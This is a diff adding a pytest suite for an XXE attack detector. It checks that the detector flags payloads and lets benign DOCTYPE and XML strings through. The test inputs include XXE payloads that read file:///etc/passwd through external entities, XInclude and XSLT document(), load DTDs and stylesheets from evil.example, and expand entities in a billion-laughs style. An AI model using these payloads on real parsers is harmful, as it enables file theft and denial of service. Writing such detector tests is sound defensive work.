@@ -1,0 +1,72 @@
+import pytest
+from asking import asking
+from lookalikes import AMBIGUOUS, PLAIN, generated
+
+from seawall.systems.threats.detectors.xxe import DETECTOR
+
+ask = asking(DETECTOR)
+
+ATTACKS = (
+    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>',
+    '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://x/y.dtd">%a;]>',
+    '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>',
+    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
+    '<!doctype svg [<!entity x public "x" "http://x">]>',
+    '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>',
+    "<xsl:value-of select=\"document('file:///etc/passwd')\"/>",
+)
+HONEST = (
+    "<!DOCTYPE html>",
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html>',
+    '<?xml version="1.0"?><note><to>x</to></note>',
+    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
+    '<!DOCTYPE html SYSTEM "about:legacy-compat">',
+    "entity",
+    "document(s)",
+    "include href",
+)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_attacks_are_found(text):
+    assert ask(text)[1] >= 0.85
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_what_only_looks_like_one_is_let_through(text):
+    assert ask(text)[1] < 0.5
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        (
+            '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+            "xxe-external",
+        ),
+        ('<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>', "xxe-expansion"),
+        (
+            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
+            "xxe-include",
+        ),
+        ('<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>', "xxe-doctype"),
+    ],
+)
+def test_each_kind_of_attack_has_a_rule(text, rule):
+    assert ask(text)[0] == rule
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_honest_values_are_not_even_ambiguous(text):
+    assert ask(text)[1] < 0.5
+
+
+@pytest.mark.parametrize("text", AMBIGUOUS)
+def test_pasted_statements_stay_below_sure(text):
+    assert ask(text)[1] < 0.9
+
+
+def test_generated_honest_values_are_not_suspected():
+    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
+    assert suspected == []
